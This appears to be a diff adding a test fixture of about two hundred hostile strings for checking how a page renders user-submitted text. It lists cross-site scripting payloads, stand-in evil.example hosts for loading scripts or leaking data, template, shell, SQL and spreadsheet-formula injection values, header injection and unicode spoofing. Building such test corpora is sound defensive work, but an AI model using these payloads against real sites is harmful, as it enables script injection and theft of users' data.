@@ -1,0 +1,160 @@
+/** Two hundred texts that somebody might write where a page shows what people wrote, each by what it would do if it were believed. */
+
+const SCRIPTS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=//evil.example/x.js></script>',
+  '<script src="data:text/javascript,alert(1)"></script>',
+  '<script type=module>import("//evil.example/x.js")</script>',
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script>',
+  '<<script>alert(1);//<</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
+  '＜script＞alert(1)＜/script＞',
+];
+
+const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee', 'iframe', 'a'];
+const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
+const HANDLERS = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1)>`));
+
+const ATTRIBUTES = [
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '` onmouseover=`alert(1)',
+  '" autofocus onfocus="alert(1)" x="',
+  '" style="position:fixed;inset:0;background:red" x="',
+  "x' onclick='alert(1)'",
+  '"/onload="alert(1)',
+  'x" srcdoc="<script>alert(1)</script>',
+  '" formaction="javascript:alert(1)',
+  '" href="javascript:alert(1)',
+];
+
+const ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'javascript://%0aalert(1)',
+  ' javascript:alert(1)',
+  'java&#x09;script:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'vbscript:msgbox(1)',
+  'blob:https://evil.example/1',
+  '//evil.example',
+  'https://evil.example/?c=',
+  'http://127.0.0.1:1/v1/tokens',
+  '[a link](javascript:alert(1))',
+  '![](https://evil.example/x.png)',
+  '<a href="javascript:alert(1)">here</a>',
+  '<a href=https://evil.example ping=https://evil.example>here</a>',
+  '<img src=https://evil.example/x.png>',
+  '<img srcset="https://evil.example/x.png 2x">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<link rel=prefetch href=//evil.example/>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action=//evil.example><button>Sign in</button></form>',
+  '<iframe src=//evil.example></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data=//evil.example></object>',
+  '<embed src=//evil.example>',
+  '<audio src=//evil.example autoplay></audio>',
+  '<input type=image src=//evil.example>',
+  '<portal src=//evil.example></portal>',
+];
+
+const DRAWINGS = [
+  '<svg><script>alert(1)</script></svg>',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>here</text></a></svg>',
+  '<svg><set attributeName=href to=javascript:alert(1)>',
+  '<svg><image href=https://evil.example/x.png /></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<math href="javascript:alert(1)">here</math>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<div style="background:url(//evil.example)">',
+  '<table background=//evil.example>',
+  '<template><script>alert(1)</script></template>',
+];
+
+const TEMPLATES = [
+  '{{constructor.constructor("alert(1)")()}}',
+  '{{7*7}}',
+  '${alert(1)}',
+  '#{alert(1)}',
+  '<%= alert(1) %>',
+  '{% raw %}alert(1){% endraw %}',
+  '[[${7*7}]]',
+  '{{canary}}',
+  '{version}',
+  '%s%s%s%n%x',
+  '$(touch /tmp/x)',
+  '`id`',
+  "'; drop table releases; --",
+  '" or 1=1 --',
+  '=cmd|" /C calc"!A0',
+];
+
+const NOTHINGS = ['null', 'undefined', 'NaN', 'true', '0', '-1', '[object Object]', '__proto__', 'constructor', 'toString', '{}', '[]'];
+
+const SIGNS = [
+  '\u202Etxt.exe',
+  'a\u202Eb\u202Dc\u202C',
+  '\u2066\u2067\u2068\u2069',
+  '\u200F\u200Eעברית',
+  'שלום עולם',
+  'مرحبا بالعالم',
+  'Z̴̢̛͓̲̖͉̓̈́̔̍a̷̛̫̘͉͛̾l̵̰̗̈́̚g̶̙̈́ȯ̷̬',
+  `z${'\u0300\u0316'.repeat(90)}`,
+  '\uFEFFinvisible\u200B\u200C\u200D\u2060',
+  '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿',
+  '💥'.repeat(80),
+  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ℌ𝔢𝔞𝔡𝔤𝔞𝔱𝔢',
+  '﷽'.repeat(30),
+  '\uD7FF\uE000\uFFFD',
+  '漢字仮名交じり文'.repeat(20),
+  'ﬃ ǅ ß İ ı',
+];
+
+const SHAPES = [
+  'w'.repeat(200),
+  'W'.repeat(180),
+  `${'long-'.repeat(39)}end`,
+  `a ${'x'.repeat(190)} b`,
+  '.'.repeat(200),
+  '\u00A0'.repeat(100),
+  `${'&nbsp;'.repeat(30)}`,
+  'a\r\nb',
+  'a\nSet-Cookie: x=1',
+  'tab\there',
+  'nul\u0000here',
+  'bell\u0007here',
+  'esc\u001B[31mred',
+  'line\u2028here',
+  'paragraph\u2029here',
+  `"'\`<>&;/\\`,
+  "it's",
+  '"quoted"',
+  '\\"\\\'',
+  '&amp;&#60;&#x3c;&quot;',
+  '<b>bold</b><h1>Stale since 00:00</h1>',
+  '<!-- comment',
+];
+
+export const HOSTILE: readonly string[] = [
+  ...[SCRIPTS, HANDLERS, ATTRIBUTES, ADDRESSES, DRAWINGS, TEMPLATES, NOTHINGS, SIGNS, SHAPES].flat(),
+];
